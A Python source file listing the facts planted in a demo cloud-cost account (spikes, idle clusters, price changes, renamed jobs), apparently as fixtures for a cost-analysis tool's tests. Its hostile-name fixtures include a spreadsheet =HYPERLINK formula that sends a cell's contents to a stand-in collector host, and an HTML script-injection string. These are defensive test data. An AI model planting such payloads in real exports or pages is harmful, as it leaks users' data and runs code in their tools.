"""The facts planted in the demo account: the one place that knows their names, days and sizes.

Days count from the end date of the account: 0 is the end date, -9 nine days before it. docs/demo-account.md
tells the same facts to people; a test holds the two together and finds every fact in the data.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Literal

Kind = Literal[
    "spike",
    "outage",
    "leak",
    "level shift",
    "new workload",
    "idle cluster",
    "over-provisioned cluster",
    "cluster without auto-termination",
    "job on all-purpose compute",
    "oversized warehouse",
    "untagged spend",
    "hostile name",
    "price change",
    "late price",
    "no price",
    "free usage",
    "tiny rate",
    "promotional price",
    "restatement",
    "retraction",
    "renamed cluster",
    "deleted cluster",
    "changed auto-termination",
    "memory-bound cluster",
    "waiting cluster",
    "warehouse with long idle tails",
    "warehouse that never stops",
    "query past midnight",
    "own warehouse",
    "failing job",
    "cancelled runs",
    "runs that never started",
    "run past midnight",
    "submitted runs",
    "job on a SQL warehouse",
    "renamed job",
    "deleted job",
    "paused job",
    "renamed pipeline",
    "two served entities",
]


@dataclass(frozen=True, slots=True)
class Fact:
    """One planted fact.

    Attributes:
        kind: what it is.
        subject: the name it carries in the data: a workload, workspace, SKU or tag value.
        size: factor of a spike or level shift, share missing in an outage, growth per day of a leak, new price in USD,
            factor of a restatement, new setting, share of the runs; None where there is nothing to measure.
        first_day: first day concerned, counted from the end date; None means always.
        last_day: last day concerned; None means up to now.
        arrives: day on which the correction or the price becomes visible.
    """

    kind: Kind
    subject: str
    size: float | None = None
    first_day: int | None = None
    last_day: int | None = None
    arrives: int | None = None

    def covers(self, day: int) -> bool:
        """Whether the fact concerns that day, counted from the end date."""
        return (self.first_day is None or day >= self.first_day) and (self.last_day is None or day <= self.last_day)


HYPERLINK_TAG = '=HYPERLINK("http://collector.example/?leak="&A1,"open")'
HTML_CLUSTER = "<b>Grafana export</b><script>alert('cost')</script>"
JAPANESE_JOB = "夜間バッチ集計"
ODD_TAG = 'O\'Brien "R&D"\nteam 🚀'
PLUS_EMAIL = "ana.silva+oncall@northwind.example"
STRADDLED_SKU = "PREMIUM_SERVERLESS_SQL_COMPUTE_US_EAST_N_VIRGINIA"
LATE_PRICE_SKU = "PREMIUM_VECTOR_SEARCH_STORAGE_OPTIMIZED_US_EAST_N_VIRGINIA"
UNPRICED_SKU = "PREMIUM_AI_RUNTIME_COMPUTE_US_EAST_N_VIRGINIA"
FREE_SKU = "PREMIUM_DATABRICKS_APPS_FREE_USAGE_US_EAST_N_VIRGINIA"
TOKEN_SKU = "PREMIUM_FOUNDATION_MODEL_INPUT_TOKENS_US_EAST_N_VIRGINIA"  # noqa: S105
LAKEBASE_SKU = "PREMIUM_DATABASE_SERVERLESS_COMPUTE_US_EAST_N_VIRGINIA"

FACTS: tuple[Fact, ...] = (
    Fact("spike", "nightly_feature_backfill", size=6.0, first_day=-9, last_day=-9),
    Fact("spike", "adhoc-analytics-shared", size=4.0, first_day=-58, last_day=-57),
    Fact("spike", "Finance reporting", size=5.0, first_day=-121, last_day=-121),
    Fact("outage", "northwind-eu-prod", size=0.85, first_day=-23, last_day=-23),
    Fact("leak", "clickstream_bronze_to_silver", size=0.02, first_day=-35),
    Fact("level shift", "BI shared", size=1.8, first_day=-48),
    Fact("new workload", "genai-support-assistant", first_day=-80),
    Fact("new workload", "customer_360_refresh", first_day=-40),
    Fact("idle cluster", "migration-sandbox-2024"),
    Fact("idle cluster", "jonas-test-cluster"),
    Fact("over-provisioned cluster", "risk-model-workbench"),
    Fact("cluster without auto-termination", "bi-extracts-always-on"),
    Fact("job on all-purpose compute", "hourly_orders_sync"),
    Fact("oversized warehouse", "Executive dashboards"),
    Fact("untagged spend", "legacy_dwh_load"),
    Fact("untagged spend", "Ad hoc SQL"),
    Fact("hostile name", HYPERLINK_TAG),
    Fact("hostile name", HTML_CLUSTER),
    Fact("hostile name", JAPANESE_JOB),
    Fact("hostile name", ODD_TAG),
    Fact("hostile name", PLUS_EMAIL),
    Fact("price change", "ENTERPRISE_JOBS_COMPUTE", size=0.22, first_day=-75),
    # In force from 23:59:59 of day -21: the usage window 23:00-24:00 of that day straddles it.
    Fact("price change", STRADDLED_SKU, size=0.74, first_day=-20),
    Fact("late price", LATE_PRICE_SKU, size=0.28, first_day=-5, arrives=-2),
    Fact("no price", UNPRICED_SKU),
    Fact("free usage", FREE_SKU, size=0.0),
    Fact("tiny rate", TOKEN_SKU, size=0.0000000714),
    Fact("promotional price", LAKEBASE_SKU, size=0.20),
    Fact("restatement", "daily_margin_report", size=0.5, first_day=-12, last_day=-12, arrives=-2),
    Fact("retraction", "sessionize_events", first_day=-10, last_day=-10, arrives=-1),
    Fact("renamed cluster", "marketing-explore", first_day=-40),
    Fact("deleted cluster", "hackathon-2026", last_day=-20),
    Fact("changed auto-termination", "dev-shared-1", size=25, first_day=-33),
    Fact("memory-bound cluster", "forecasting-lab"),
    Fact("waiting cluster", "ds-team-b"),
    Fact("warehouse with long idle tails", "Data science SQL", size=120),
    Fact("warehouse that never stops", "Logistics screens", size=0),
    Fact("query past midnight", "Logistics screens"),
    Fact("own warehouse", "CostPulse"),
    Fact("failing job", "fraud_features", size=0.2),
    Fact("cancelled runs", "backfill_history", size=0.1),
    Fact("runs that never started", "hourly_orders_sync", size=0.02),
    Fact("run past midnight", "overnight_reconciliation"),
    Fact("submitted runs", "supplier_portal_submit"),
    Fact("job on a SQL warehouse", "dbt_build"),
    Fact("renamed job", "gold_churn", first_day=-45),
    Fact("deleted job", "pricing_experiment_q3", last_day=-30),
    Fact("paused job", "campaign_preview", first_day=-15),
    Fact("renamed pipeline", "iot_sensors", first_day=-50),
    Fact("two served entities", "recommender-online"),
)

#: What was called otherwise before its "renamed ..." fact.
OLD_NAMES = {"marketing-explore": "campaign-lab", "gold_churn": "churn_v1_do_not_use", "iot_sensors": "iot_sensors_poc"}

#: What dev-shared-1 had before its "changed auto-termination" fact.
OLD_AUTO_TERMINATION = 240

#: Nobody may ever read these: whoever finds them outside the source has found a leak.
STATEMENT_TEXT = "select secret_column from payroll -- never read"
ERROR_MESSAGE = "secret_column of payroll cannot be cast -- never read"


def facts(*kinds: Kind) -> Iterator[Fact]:
    """The facts of these kinds, in their fixed order."""
    return (fact for fact in FACTS if fact.kind in kinds)
